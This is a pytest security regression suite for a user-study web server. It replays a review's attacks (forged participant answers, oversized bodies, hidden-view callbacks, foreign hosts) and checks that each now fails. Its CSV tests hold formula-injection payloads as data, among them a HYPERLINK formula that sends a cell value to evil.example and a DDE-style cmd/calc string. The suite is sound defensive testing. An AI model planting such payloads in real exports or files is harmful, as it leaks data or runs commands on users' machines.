"""Attacks on the study server (issue 14) and why each now fails.

Each test reproduces a finding of the review — a forged answer, a re-rolled condition, a
late answer, an oversized body, a view hidden by CSS only, a formula in a CSV, a foreign
Host — and checks the server's answer to it.
"""

from __future__ import annotations

import io
import json
import os
import stat

import pytest

from stateseer.app.study.spec import StudyError, parse_study
from tests.conftest import one_line

TOKEN = "admin-token-for-tests"


def _doc(run, **extra):
    from stateseer.app.workflows.runview import RunView

    ids = [int(i) for i in RunView(run).traces["test"].rows[:3]]
    doc = {"study": "sec", "run": str(run),
           "conditions": {"full": "full", "baseline": "baseline"},
           "assignment": {"method": "counterbalanced"},
           "participants": ["P01", "P02", "P03"],
           "tasks": [{"id": "why", "prompt": "Why?", "open": ids[:2]},
                     {"id": "which", "prompt": "Which?",
                      "answer": {"type": "choice", "options": ["yes", "no"]}}]}
    doc.update(extra)
    return doc


@pytest.fixture(scope="module")
def sec_app(explored_run, tmp_path_factory):
    from stateseer.app.study.server import create_study_app

    app = create_study_app(parse_study(_doc(explored_run)), admin_token=TOKEN,
                           db=tmp_path_factory.mktemp("db") / "sec.sqlite")
    yield app
    app.study_context.log.close()


def _secret(app, pid):
    return app.study_context.log.link(pid)[1]


def _open_page(app, pid):
    """Load ``pid``'s page (joins them); returns a cookie-less client and their secret."""
    secret = _secret(app, pid)
    client = app.server.test_client(use_cookies=False)
    client.dash_app = app  # for _callback
    r = client.get("/_dash-layout", headers={"Referer": f"http://localhost/p/{secret}/"})
    assert r.status_code == 200
    return client, secret, json.loads(r.data)


def _find(node, cid):
    if isinstance(node, dict):
        if node.get("props", {}).get("id") == cid:
            return node
        node = list(node.get("props", {}).values())
    if isinstance(node, list):
        for v in node:
            hit = _find(v, cid)
            if hit:
                return hit
    return None


def _spec(cid, prop, value=None):
    return {"id": cid, "property": prop, "value": value}


def _callback_key(app, outputs, trigger):
    """The app's callback (its ``callback_map`` key) whose outputs begin with ``outputs``
    and that has the input ``trigger``."""
    want = [f"{c}.{p}" for c, p in outputs]
    for key, cb in app.callback_map.items():
        parts = [x.split("@")[0] for x in key.strip(".").split("...")]
        if parts[:len(want)] == want and any(i["id"] == trigger for i in cb["inputs"]):
            return key
    raise AssertionError(f"no callback {want} on {trigger}")


def _callback(client, outputs, inputs, state=(), *, changed, secret=None):
    """POST a Dash callback request the way the renderer does: every input and state of
    the registered callback, with the values of ``inputs`` and ``state`` (by id and
    property; None for the others)."""
    values = {(x["id"], x["property"]): x.get("value") for x in (*inputs, *state)}
    body = _body(client.dash_app, outputs, changed[0].split(".")[0], values, list(changed))
    headers = {"Referer": f"http://localhost/p/{secret}/"} if secret else {}
    return client.post("/_dash-update-component", json=body, headers=headers)


def _in_condition(app, condition, prefix="V"):
    """A participant of ``condition`` (conditions alternate by counterbalancing)."""
    for k in range(20):
        client, secret, page = _open_page(app, f"{prefix}{condition[0]}{k:02d}")
        pid = _find(page, "study-info")["props"]["data"]["pid"]
        if app.study_context.log.condition_of(pid) == condition:
            return client, secret, page
    raise AssertionError(f"no participant in {condition}")


def _baseline(app):
    return _in_condition(app, "baseline")


def _submit(client, secret, info, text):
    return _callback(
        client, [("study-message", "children"), ("study-loc", "href")],
        [_spec("study-submit", "n_clicks", 1), _spec("study-timeout", "data")],
        [_spec("study-info", "data", info), _spec("study-answer-text", "value", text),
         _spec("study-answer-choice", "value"), _spec("study-answer-ids", "value")],
        changed=["study-submit.n_clicks"], secret=secret)


# -- H1: identity ----------------------------------------------------------------------------

def test_a_forged_answer_for_another_participant_is_not_stored(sec_app):
    """The review's reproduction: the submit callback posted with another pid."""
    log = sec_app.study_context.log
    _, _, victim_page = _open_page(sec_app, "P01")
    victim_info = _find(victim_page, "study-info")["props"]["data"]
    attacker, attacker_secret, _ = _open_page(sec_app, "P02")
    # no link at all: refused before any callback runs
    r = _submit(attacker, None, victim_info, "forged")
    assert r.status_code == 403 and "no valid participant link" in r.json["error"]
    # a guessed secret: refused the same way
    assert _submit(attacker, "A" * 22, victim_info, "forged").status_code == 403
    # the attacker's own link with the victim's pid in the page store: the pid is ignored
    r = _submit(attacker, attacker_secret, victim_info, "forged")
    assert r.status_code == 200
    assert not any(t["submitted_at"] for t in log.progress("P01"))  # the victim: nothing
    mine = {t["task"]: t for t in log.progress("P02")}
    assert json.loads(mine["why"]["answer"])["value"] == "forged"  # the sender's own answer
    assert json.loads(r.data)["response"]["study-loc"]["href"].startswith(
        f"/p/{attacker_secret}/")


def test_events_go_to_the_secret_holder_whatever_pid_the_body_names(sec_app):
    client, secret, _ = _open_page(sec_app, "P03")
    r = client.post("/study/event", json={"pid": "P01", "kind": "forged"},
                    headers={"X-Study-Secret": secret})
    assert r.status_code == 200
    rows = sec_app.study_context.log.read("SELECT pid FROM events WHERE kind = 'forged'")
    assert [r[0] for r in rows] == ["P03"]


def test_join_cannot_choose_an_id_or_re_roll_a_condition(sec_app):
    log = sec_app.study_context.log
    browser = sec_app.server.test_client()  # keeps its cookies, like a browser
    r = browser.post("/study/join", json={"pid": "P09"})
    assert r.status_code == 400 and "not accepted" in one_line(StudyError(r.json["error"]))
    first = browser.post("/study/join", json={})
    again = browser.post("/study/join", json={})  # the same browser: the same participant
    assert first.status_code == again.status_code == 200
    assert again.json["pid"] == first.json["pid"] and not again.json["new"]
    assert "condition" not in first.json and "condition" not in again.json  # never told
    r = browser.get("/study/new")  # and /study/new hands back that participant's link
    assert r.headers["Location"].endswith(f"/p/{first.json['secret']}/")
    assert log.pid_of(first.json["secret"]) == first.json["pid"]
    assert "Set-Cookie" not in again.headers  # the cookie is set once, with a new link
    cookie = first.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie


def test_a_study_without_generated_ids_gives_no_link_to_strangers(explored_run, tmp_path):
    from stateseer.app.study.server import create_study_app

    app = create_study_app(parse_study(_doc(explored_run, allow_generated_ids=False)),
                           db=tmp_path / "closed.sqlite")
    try:
        client = app.server.test_client()
        assert client.post("/study/join", json={}).status_code == 403
        assert client.get("/study/new").status_code == 404
        assert {r["pid"] for r in app.study_context.log.links()} == {"P01", "P02", "P03"}
    finally:
        app.study_context.log.close()


def test_time_limits_are_enforced_on_the_server(explored_run, tmp_path):
    """A submit well past a task's limit is stored with timed_out=1 (not refused), whatever
    the page says."""
    import time

    from stateseer.app.study.server import create_study_app, submit_answer

    doc = _doc(explored_run, tasks=[{"id": "quick", "prompt": "Quick!", "time_limit_s": 0.2}])
    app = create_study_app(parse_study(doc), db=tmp_path / "timed.sqlite")
    sc = app.study_context
    try:
        _open_page(app, "P01")
        time.sleep(1.5)  # past the limit and its 1 s grace, but the page says "on time"
        submit_answer(sc, "P01", "quick", text="late", choice=None, ids=None, timed_out=False)
        row = sc.log.progress("P01")[0]
        assert row["timed_out"] == 1 and json.loads(row["answer"])["value"] == "late"
    finally:
        sc.log.close()


def test_a_stale_page_cannot_answer_another_task(sec_app):
    from stateseer.app.study.server import submit_answer

    sc = sec_app.study_context
    _open_page(sec_app, "S01")
    msg, _ = submit_answer(sc, "S01", "which", text=None, choice="yes", ids=None,
                           timed_out=False)
    assert "out of date" in msg and not any(t["submitted_at"] for t in sc.log.progress("S01"))


# -- M3: bounded requests and stores -----------------------------------------------------------

class _Exploding(io.RawIOBase):
    """A request body that fails the test if the server reads it."""

    def readable(self):
        return True

    def readinto(self, b):
        raise AssertionError("the server read a body it should have refused")


class _Endless(io.RawIOBase):
    """An endless chunked body that counts what the server read."""

    def __init__(self):
        self.read_bytes = 0

    def readable(self):
        return True

    def readinto(self, b):
        b[:] = b"x" * len(b)
        self.read_bytes += len(b)
        return len(b)


def _environ(secret, stream, length=None):
    from werkzeug.test import EnvironBuilder

    env = EnvironBuilder(path="/study/event", method="POST",
                         headers={"X-Study-Secret": secret,
                                  "Content-Type": "application/json"}).get_environ()
    env["wsgi.input"] = stream
    env.pop("CONTENT_LENGTH", None)
    if length is None:
        env["wsgi.input_terminated"] = True  # what the dev server says of chunked bodies
    else:
        env["CONTENT_LENGTH"] = str(length)
    return env


def test_event_bodies_over_the_limit_are_refused_before_reading(sec_app):
    from stateseer.app.study.routes import MAX_BODY

    _, secret, _ = _open_page(sec_app, "B01")
    with sec_app.server.request_context(_environ(secret, _Exploding(), 20 * 2**20)):
        resp = sec_app.server.full_dispatch_request()
    assert resp.status_code == 413 and "larger than" in resp.get_json()["error"]
    endless = _Endless()
    with sec_app.server.request_context(_environ(secret, endless)):
        resp = sec_app.server.full_dispatch_request()
    assert resp.status_code == 413
    assert endless.read_bytes <= MAX_BODY + 64 * 1024  # cut off at the limit, not 20 MB


def test_the_dash_endpoint_refuses_large_bodies(sec_app):
    from stateseer.app.security import MAX_REQUEST_BYTES

    client, secret, _ = _open_page(sec_app, "B02")
    r = client.post("/_dash-update-component", data=b"{" + b" " * (MAX_REQUEST_BYTES + 1),
                    content_type="application/json",
                    headers={"Referer": f"http://localhost/p/{secret}/"})
    assert r.status_code == 413


def test_a_500_mb_or_endless_body_to_the_dash_endpoint_is_cut_off(sec_app):
    """Neither a 500 MB Content-Length nor an endless chunked body is read past the limit
    (memory stays flat: what is read is bounded by MAX_REQUEST_BYTES)."""
    from stateseer.app.security import MAX_REQUEST_BYTES

    _, secret, _ = _open_page(sec_app, "B03")
    for stream, length in ((_Exploding(), 500 * 2**20), (_Endless(), None)):
        env = _environ(secret, stream, length)
        env["PATH_INFO"] = "/_dash-update-component"
        env["HTTP_REFERER"] = f"http://localhost/p/{secret}/"
        with sec_app.server.request_context(env):
            resp = sec_app.server.full_dispatch_request()
        # 413 unread; a chunked body is cut at the limit (its truncated JSON: 400)
        assert resp.status_code == (413 if length else 400), resp.status_code
        assert getattr(stream, "read_bytes", 0) <= MAX_REQUEST_BYTES + 64 * 1024


def test_a_30_mb_event_through_the_callback_path_is_refused(sec_app):
    from types import SimpleNamespace

    from stateseer.app.study.events import on_typed

    sc = sec_app.study_context
    client, secret, page = _in_condition(sec_app, "full", "B")  # a condition with the input
    pid = _find(page, "study-info")["props"]["data"]["pid"]
    before = sc.log.read("SELECT COUNT(*) FROM events")[0][0]
    as_pid = SimpleNamespace(write=sc.write, participant=lambda: pid)
    ack = on_typed(as_pid, 1, "x" * 30_000_000, {"pid": pid})
    assert ack["ok"] is False and "limit is 64 KiB" in one_line(StudyError(ack["error"]))
    assert sc.log.read("SELECT COUNT(*) FROM events")[0][0] == before
    # and over HTTP, a 1 MB typed text (under the body limit, over the payload limit)
    r = _callback(client, [("study-ack", "data")], [_spec("new-text", "n_blur", 1)],
                  [_spec("new-text", "value", "y" * 1_000_000),
                   _spec("study-info", "data", {"pid": pid})],
                  changed=["new-text.n_blur"], secret=secret)
    assert r.status_code == 200
    assert json.loads(r.data)["response"]["study-ack"]["data"]["ok"] is False


def test_store_size_caps(tmp_path):
    from stateseer.app.study.store import StudyLimitError, StudyLog

    log = StudyLog(tmp_path / "caps.sqlite", study="caps", max_events=5, max_participants=2)
    try:
        for pid in ("a", "b"):
            log.link(pid)
            log.join(pid, lambda counts: ("full", "fixed"))
        with pytest.raises(StudyLimitError, match="limit"):
            log.link("c")
        assert log.link("a")[0] == "a"  # an existing link is no new participant
        log.log_many("a", [("k", {})] * 4)  # 1 join event + 4 = 5, the cap
        with pytest.raises(StudyLimitError) as err:
            log.log("a", "k")
        assert "the limit is 5" in one_line(err.value)
        log.log("b", "k")  # another participant is not affected
    finally:
        log.close()
    tiny = StudyLog(tmp_path / "tiny.sqlite", study="tiny", max_db_bytes=1)
    try:
        tiny.join("a", lambda counts: ("full", "fixed"))
        with pytest.raises(StudyLimitError, match="export it"):
            tiny.log("a", "k")
    finally:
        tiny.close()


def test_the_log_and_the_links_file_are_private(sec_app, tmp_path):
    from stateseer.app.study.server import write_links

    sc = sec_app.study_context
    assert stat.S_IMODE(os.stat(sc.log.path).st_mode) == 0o600
    path = write_links(sc, tmp_path / "s.links.csv", "http://127.0.0.1:8050")
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert f"http://127.0.0.1:8050/p/{_secret(sec_app, 'P01')}/" in path.read_text()


# -- M4: excluded views are neither rendered nor answerable -----------------------------------



def test_callbacks_of_excluded_views_are_refused(sec_app):
    client, secret, _ = _baseline(sec_app)
    sel = {"split": "test", "state": None, "row": 0, "pattern": None}
    # the state card (view "card"): not run
    r = _callback(client, [("state-card", "children"), ("side-tabs", "value")],
                  [_spec("selection", "data", sel)], [_spec("side-tabs", "value", "card")],
                  changed=["selection.data"], secret=secret)
    assert r.status_code == 204 or "state-card" not in json.loads(r.data)["response"]
    # nearest contexts: every output is of an excluded view, so nothing runs
    r = _callback(client, [("nn-list", "children"), ("proj-chart", "figure")],
                  [_spec("active-trace", "data"), _spec("step", "data"),
                   _spec("nn-k", "value", 5), _spec("nn-window", "value", 3)],
                  changed=["active-trace.data"], secret=secret)
    assert r.status_code == 204 and not r.data
    # triggered from the diagram (a tap on a state): not run
    r = _callback(client, [("study-ack", "data")], [_spec("topk", "value", 3)],
                  [_spec("study-info", "data", {})], changed=["topk.value"], secret=secret)
    assert r.status_code == 204
    # a selection naming a state, sent by a condition without states: not run
    r = _callback(client, [("table", "data"), ("table", "page_count")],
                  [_spec("selection", "data", {**sel, "state": 3})],
                  changed=["selection.data"], secret=secret)
    assert r.status_code == 204


def test_outputs_of_excluded_views_are_dropped_from_a_mixed_callback():
    from flask import Flask, Response

    from stateseer.app.study.guard import _drop_hidden, excluded_ids

    hidden = excluded_ids(("table", "trace_text", "attribution"))
    doc = {"multi": True, "response": {"trace-tokens": {"children": "t"},
                                       "trace-chart": {"figure": {"data": []}},
                                       '{"index":1,"type":"nn-row"}': {"n_clicks": 0}}}
    with Flask("t").app_context():
        out = _drop_hidden(Response(json.dumps(doc), mimetype="application/json"), hidden)
        assert json.loads(out.get_data()) == {"multi": True,
                                              "response": {"trace-tokens": {"children": "t"}}}
        only_hidden = {"multi": True, "response": {"state-card": {"children": "x"}}}
        out = _drop_hidden(Response(json.dumps(only_hidden), mimetype="application/json"),
                           hidden)
        assert out.status_code == 204


def test_excluded_views_hold_no_data_in_the_page(sec_app):
    _, _, page = _baseline(sec_app)
    for cid in ("state-card", "nn-list", "influential", "buggy"):
        node = _find(page, cid)
        assert node is None or not node["props"].get("children"), cid
    diagram = _find(page, "diagram")
    assert diagram is None or not diagram["props"].get("elements")


def _body(app, outputs, trigger, values, changed=None):
    """A complete request for the callback whose outputs begin with ``outputs`` and that
    has the input ``trigger``: every input and state as registered, ``values`` by
    ``(id, property)`` (None elsewhere), as the renderer sends it."""
    key = _callback_key(app, outputs, trigger)
    cb = app.callback_map[key]
    def one(d):  # a wildcard (ALL) is sent as the list of the components it matched
        if '["ALL"]' in str(d["id"]):
            return values.get((str(d["id"]), d["property"]), [])
        return _spec(d["id"], d["property"], values.get((d["id"], d["property"])))

    spec = {part: [one(d) for d in cb[part]] for part in ("inputs", "state")}
    outs = [dict(zip(("id", "property"), x.split("@")[0].rsplit(".", 1), strict=True))
            for x in key.strip(".").split("...")]
    return {"output": key, "outputs": outs if len(outs) > 1 else outs[0], **spec,
            "changedPropIds": changed or [f"{trigger}.{cb['inputs'][0]['property']}"
                                          if cb["inputs"][0]["id"] == trigger else trigger]}


def _post(client, body, secret):
    return client.post("/_dash-update-component", json=body,
                       headers={"Referer": f"http://localhost/p/{secret}/"})


def _row_trace(client, secret, full=False):
    """The ``active-trace`` a forged row selection receives (``full``: the whole response
    of the callback, which also draws the trace)."""
    sel = {"split": "test", "state": None, "row": 1, "pattern": None}
    body = _body(client.dash_app, [("active-trace", "data")], "selection",
                 {("selection", "data"): sel, ("trace-btn", "n_clicks"): 0,
                  ("new-text", "value"): "", ("compare-mode", "value"): "off"},
                 changed=["selection.data"])
    r = _post(client, body, secret)
    assert r.status_code == 200, r.data
    doc = json.loads(r.data)["response"]
    return doc if full else doc["active-trace"]["data"]["main"]


def test_a_renamed_input_cannot_carry_a_state_past_the_guard(sec_app):
    """Dash reads inputs by position: a baseline participant who renamed the selection's
    id got the table of a state (200, its rows). A request must be the callback as
    registered, input by input."""
    client, secret, _ = _baseline(sec_app)
    sel = {"split": "test", "state": 2, "row": None, "pattern": None}

    def table(selection, rename=None):
        body = _body(client.dash_app, [("table", "data")], "selection",
                     {("selection", "data"): selection}, changed=["selection.data"])
        if rename:
            for spec in body["inputs"]:
                if spec["id"] == "selection":
                    spec["id"] = rename
            body["changedPropIds"] = [f"{rename}.data"]
        return _post(client, body, secret)

    assert table({**sel, "state": None}).status_code == 200  # the page's own request
    r = table(sel)
    assert r.status_code == 204 and "no states" in r.headers["X-Study-Refused"]
    for name in ("selection-x", "Selection", "search"):
        r = table(sel, rename=name)
        assert r.status_code == 204 and not r.data, name
        assert "not the callback's" in r.headers["X-Study-Refused"]
    body = _body(client.dash_app, [("table", "data")], "selection",
                 {("selection", "data"): {**sel, "state": None}}, changed=["selection.data"])
    body["inputs"] = body["inputs"][:1]  # fewer inputs than registered
    assert _post(client, body, secret).status_code == 204
    body = _body(client.dash_app, [("table", "data")], "selection",
                 {("selection", "data"): {**sel, "state": None}}, changed=["diagram.tapNodeData"])
    r = _post(client, body, secret)  # a fired property the callback does not have
    assert r.status_code == 204 and "not an input" in r.headers["X-Study-Refused"]


def test_a_condition_without_states_receives_traces_without_states(sec_app):
    from stateseer.app.explorer.views.trace import token_strip, trace_title
    from stateseer.app.workflows.records import TraceRecord

    client, secret, _ = _baseline(sec_app)
    main = _row_trace(client, secret)
    assert main["states"] == [] and main["simulated"] == [] and "states_own" not in main
    assert main["tokens"] and main["proba"]  # the rest of the trace is there
    rec = TraceRecord.from_store(main)  # the trace views still draw it, with no state
    ctx = sec_app.study_context.ctx
    strip = json.dumps(token_strip(rec, ctx.data.classes).to_plotly_json(),
                       default=lambda o: o.to_plotly_json())
    assert "state" not in strip and '"st"' not in strip
    assert "FSM" not in json.dumps(trace_title(ctx, rec), default=lambda o: o.to_plotly_json())
    # the request that picks the row also draws its trace: with no state either
    drawn = json.dumps({k: v for k, v in _row_trace(client, secret, full=True).items()
                        if k != "active-trace"}, ensure_ascii=False)
    assert "trace-tokens" in drawn and '"st"' not in drawn and "→ state" not in drawn
    full_client, full_secret, _ = _in_condition(sec_app, "full", prefix="W")
    assert len(_row_trace(full_client, full_secret)["states"]) == len(main["tokens"]) + 1
    drawn = json.dumps(_row_trace(full_client, full_secret, full=True), ensure_ascii=False)
    assert '"st"' in drawn and "→ state" in drawn  # what the check above would miss


def test_a_url_cannot_select_a_state_for_a_condition_without_states(sec_app):
    from stateseer.app.study.guard import excluded_ids

    client, secret, _ = _baseline(sec_app)
    r = client.get("/_dash-layout",
                   headers={"Referer": f"http://localhost/p/{secret}/?state=2&split=test"})
    sel = _find(json.loads(r.data), "selection")["props"]["data"]
    assert sel["state"] is None
    assert "diagram" in excluded_ids(("table", "trace_text", "attribution"))
    assert "table" not in excluded_ids(("table", "trace_text", "attribution"))


# -- M5: CSV formula injection -----------------------------------------------------------------

EVIL = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "+1+1", "-2+3", "@SUM(A1)",
        "\tcmd", "\rcmd"]


def test_csv_cells_are_escaped_in_exports_and_admin_downloads(sec_app, tmp_path):
    import csv

    from stateseer.app.study.export import export_study

    sc = sec_app.study_context
    for k, evil in enumerate(EVIL):
        pid = f"E{k}"
        _open_page(sec_app, pid)
        sc.log.submit(pid, "why", {"type": "text", "value": evil})
    hdr = {"X-Study-Token": TOKEN}
    client = sec_app.server.test_client()
    for url in ("/study/admin/answers.csv", "/study/admin/summary.csv"):
        rows = list(csv.DictReader(io.StringIO(client.get(url, headers=hdr).data.decode())))
        got = {r["answer"] for r in rows}
        assert {"'" + e for e in EVIL} <= got, url
        assert not any(a.startswith(("=", "+", "-", "@", "\t", "\r")) for a in got), url
    written = export_study(sc.log.path, tmp_path / "out")
    with open(written["answers"], newline="", encoding="utf-8") as fh:
        got = {r["answer"] for r in csv.DictReader(fh)}
    assert {"'" + e for e in EVIL} <= got


# -- M7 and Low: hosts, headers, bind warning, parse_ids -------------------------------------

def test_the_explorer_table_download_escapes_formulas(monkeypatch):
    """M5 in the explorer: the table's CSV download goes through
    stateseer.core.csvsafe."""
    import csv as _csv
    from types import SimpleNamespace

    from stateseer.app.explorer import ids
    from stateseer.app.explorer.view import Trigger
    from stateseer.app.explorer.views import table

    rows = [{"id": 1, "text": '=HYPERLINK("http://evil.example","x")', "label": "+pos",
             "prediction": "@neg", "correct": False, "confidence": -0.5, "length": 3},
            {"id": 2, "text": "\tcmd|' /C calc'!A0", "label": "-1", "prediction": "ok",
             "correct": True, "confidence": 0.9, "length": 2}]
    monkeypatch.setattr(table, "query_instances", lambda data, q: (rows, len(rows), ""))
    ctx = SimpleNamespace(data=SimpleNamespace(splits=["test"], name="run"))
    out = table.table_csv(ctx, Trigger(ids.DL_TABLE), 1, None, None, False, None, None, None)
    got = list(_csv.DictReader(io.StringIO(out["content"])))
    assert got[0]["text"].startswith("'=HYPERLINK") and got[0]["label"] == "'+pos"
    assert got[0]["prediction"] == "'@neg" and got[0]["confidence"] == "-0.5"  # a number
    assert got[1]["text"].startswith("'\t") and got[1]["label"] == "'-1"
    assert got[1]["prediction"] == "ok"


def test_foreign_hosts_and_origins_are_refused_and_headers_set(sec_app):
    client = sec_app.server.test_client()
    assert client.get("/study/health", headers={"Host": "rebound.example"}).status_code == 403
    r = client.post("/study/join", json={}, headers={"Origin": "http://evil.example"})
    assert r.status_code == 403
    r = client.get("/study/health", headers={"Host": "127.0.0.1:8050"})
    assert r.status_code == 200
    assert r.headers["X-Frame-Options"] == "DENY"
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert "frame-ancestors 'none'" in r.headers["Content-Security-Policy"]
    assert client.get("/", headers={"Host": "localhost"}).headers["X-Frame-Options"] == "DENY"


def test_allowed_hosts_extend_the_list(explored_run, tmp_path):
    from stateseer.app.study.server import create_study_app

    app = create_study_app(parse_study(_doc(explored_run)), db=tmp_path / "h.sqlite",
                           allowed_hosts=["lab.example.org"], bind_host="10.1.2.3")
    try:
        client = app.server.test_client()
        for host, status in (("lab.example.org:8050", 200), ("10.1.2.3:8050", 200),
                             ("[::1]:8050", 200), ("192.168.7.7:8050", 200),
                             ("other.example.org", 403), ("", 403)):
            assert client.get("/study/health", headers={"Host": host}).status_code == status
    finally:
        app.study_context.log.close()


def test_binding_beyond_loopback_warns():
    from stateseer.app.security import bind_warning

    assert bind_warning("127.0.0.1") is None and bind_warning("localhost") is None
    msg = bind_warning("0.0.0.0", "the study server")
    assert "plain HTTP" in one_line(StudyError(msg)) and "HTTPS" in msg


def test_study_beyond_loopback_warns_once(explored_run, tmp_path, monkeypatch, capsys):
    import signal
    import socket

    from dash import Dash

    from stateseer.app.cli.main import main

    monkeypatch.setattr(Dash, "run", lambda self, **kw: None)  # do not serve
    monkeypatch.setattr(signal, "signal", lambda *a: None)
    monkeypatch.setattr(socket, "getfqdn", lambda *a: "lab.example.org")
    study = tmp_path / "study.json"
    study.write_text(json.dumps(_doc(explored_run)))
    argv = ["study", str(study), "--host", "0.0.0.0", "--db", str(tmp_path / "s.sqlite")]
    assert main([*argv, "--admin-token", TOKEN]) == 0
    err = capsys.readouterr().err
    assert err.count("listens on 0.0.0.0") == 1 and "(and its admin token)" in err
    assert main(argv) == 0  # no admin token: still one warning, without the token note
    err = capsys.readouterr().err
    assert err.count("listens on 0.0.0.0") == 1 and "admin token" not in err
    from stateseer.app.study.server import serve_study  # called directly, it warns itself

    assert serve_study(study, db=tmp_path / "d.sqlite", host="0.0.0.0") == 0
    assert capsys.readouterr().err.count("listens on 0.0.0.0") == 1


def test_parse_ids_refuses_non_ascii_digits():
    from stateseer.app.study.answers import parse_ids

    for text in ("15, ²", "٣", "15 ¹²"):
        with pytest.raises(StudyError) as err:
            parse_ids(text)
        assert "not a whole number" in one_line(err.value)


def test_opening_a_link_remembers_it_in_this_browser_only(sec_app):
    secret = _secret(sec_app, "C01")
    browser = sec_app.server.test_client()
    r = browser.get(f"/p/{secret}/")
    assert r.status_code == 200 and f"{'stateseer-study'}={secret}" in r.headers["Set-Cookie"]
    assert "frame-ancestors 'none'" in r.headers["Content-Security-Policy"]
    assert r.headers["Referrer-Policy"] == "same-origin"  # the link never leaves the site
    assert browser.get("/study/new").headers["Location"].endswith(f"/p/{secret}/")
    r = browser.get(f"/p/{'Z' * 22}/")  # an unknown link: no cookie
    assert "Set-Cookie" not in r.headers


def test_forged_callback_values_get_no_traceback(sec_app):
    client, secret, _ = _in_condition(sec_app, "full", "G")
    for info in ([1], "x", {"task": 5}):
        r = _submit(client, secret, info, ["not", "text"])
        assert r.status_code in (200, 204), r.data[:200]
    for sel in ("x", {"row": "abc", "split": 3}, {"row": True}):
        r = _callback(client, [("study-answer-ids", "value")],
                      [_spec("study-add-selected", "n_clicks", 1)],
                      [_spec("study-answer-ids", "value", 7), _spec("selection", "data", sel),
                       _spec("study-info", "data", {"answer": "states"})],
                      changed=["study-add-selected.n_clicks"], secret=secret)
        assert r.status_code in (200, 204), r.data[:200]
        r = _callback(client, [("study-ack", "data"), ("study-prev-sel", "data")],
                      [_spec("selection", "data", sel)],
                      [_spec("study-prev-sel", "data", None),
                       _spec("study-info", "data", {"pid": "x"})],
                      changed=["selection.data"], secret=secret)
        assert r.status_code in (200, 204), r.data[:200]
    r = client.post("/_dash-update-component", json={"inputs": 5, "state": "x"},
                    headers={"Referer": f"http://localhost/p/{secret}/"})
    assert r.status_code != 500 or b"Traceback" not in r.data


def test_every_view_component_the_guard_knows_exists_in_the_app(sec_app):
    """The registry's view -> components, as the guard reads them, name real components."""
    from stateseer.app.study.guard import _key, component_ids
    from stateseer.app.study.spec import VIEWS

    known = set()
    for key, cb in sec_app.callback_map.items():
        known |= {_key(x.rsplit(".", 1)[0]) for x in key.strip(".").split("...")}
        known |= {_key(d["id"]) for d in (*cb["inputs"], *cb.get("state", []))}
    from dash.development.base_component import Component

    from stateseer.app.explorer.registry import REGISTRY

    _, _, page = _open_page(sec_app, "K01")
    # a participant's page leaves excluded views out: the full explorer names the rest
    full = REGISTRY.layout(sec_app.study_context.ctx).to_plotly_json()
    stack = [page, full]
    while stack:
        node = stack.pop()
        if isinstance(node, Component):
            node = node.to_plotly_json()
        if isinstance(node, dict):
            known.add(_key(node.get("props", {}).get("id")))
            stack.extend(node.get("props", {}).values())
        elif isinstance(node, list):
            stack.extend(node)
    for view in VIEWS:
        assert component_ids(view), view
        if view == "compare":  # its components exist only with a second run (--compare)
            continue
        listed = component_ids(view)
        # callbacks that do not apply to this context (the explorer's repair jobs: a
        # study has no job runner) are not registered, and their components not placed
        ctx = sec_app.study_context.ctx
        v = REGISTRY[view]
        off = set().union(*(cb.ids() for cb in v.callbacks
                            if cb.when is not None and not cb.when(ctx)))
        on = set().union(*(cb.ids() for cb in v.callbacks
                           if cb.when is None or cb.when(ctx)))
        missing = set(listed) - known - (off - on)
        assert not missing, f"view {view!r}: no component {sorted(missing)} in the explorer"


def test_a_within_subject_participant_meets_each_block_in_its_condition(explored_run,
                                                                        tmp_path):
    """``assignment: latin``: the first participant does the first task set with the full
    explorer and the second without states, the next one the other way round; the
    guard follows the block, and the log files every task under its block's condition."""
    from stateseer.app.study.export import answer_rows, event_rows
    from stateseer.app.study.server import create_study_app
    from stateseer.app.study.store import connect_log

    doc = _doc(explored_run, assignment="latin", task_sets=[["why"], ["which"]])
    app = create_study_app(parse_study(doc), db=tmp_path / "w.sqlite")
    try:
        sel = {"split": "test", "state": 2, "row": None, "pattern": None}

        def page(client, secret):
            r = client.get("/_dash-layout",
                           headers={"Referer": f"http://localhost/p/{secret}/"})
            return json.loads(r.data)

        def state_table(client, secret):
            body = _body(app, [("table", "data")], "selection", {("selection", "data"): sel},
                         changed=["selection.data"])
            return _post(client, body, secret).status_code

        seen = {}
        for pid in ("P01", "P02"):
            client, secret, first = _open_page(app, pid)
            info = _find(first, "study-info")["props"]["data"]
            assert info["task"] == "why" and "condition" not in info
            blocks = [(_find(first, "diagram") is not None, state_table(client, secret))]
            r = _callback(client, [("study-message", "children"), ("study-loc", "href")],
                          [_spec("study-submit", "n_clicks", 1), _spec("study-timeout", "data")],
                          [_spec("study-info", "data", info),
                           _spec("study-answer-text", "value", "a reason"),
                           _spec("study-answer-choice", "value"),
                           _spec("study-answer-ids", "value")],
                          changed=["study-submit.n_clicks"], secret=secret)
            assert r.status_code == 200 and "done=why" in r.data.decode()
            second = page(client, secret)
            assert _find(second, "study-info")["props"]["data"]["task"] == "which"
            blocks.append((_find(second, "diagram") is not None, state_table(client, secret)))
            seen[pid] = blocks
        # full: the diagram is drawn and a state's table is served; baseline: neither
        assert seen["P01"] == [(True, 200), (False, 204)]
        assert seen["P02"] == [(False, 204), (True, 200)]
        log = app.study_context.log
        assert (log.condition_of("P01"), log.condition_of("P02")) == ("full>baseline",
                                                                      "baseline>full")
        conn = connect_log(tmp_path / "w.sqlite")
        answers = [(a["pid"], a["task"], a["condition"]) for a in answer_rows(conn)]
        assert answers == [("P01", "why", "full"), ("P02", "why", "baseline")]
        started = {(e["pid"], e["task"]): e["condition"] for e in event_rows(conn)
                   if e["kind"] == "task_started"}
        assert started == {("P01", "why"): "full", ("P01", "which"): "baseline",
                           ("P02", "why"): "baseline", ("P02", "which"): "full"}
        conn.close()
    finally:
        app.study_context.log.close()
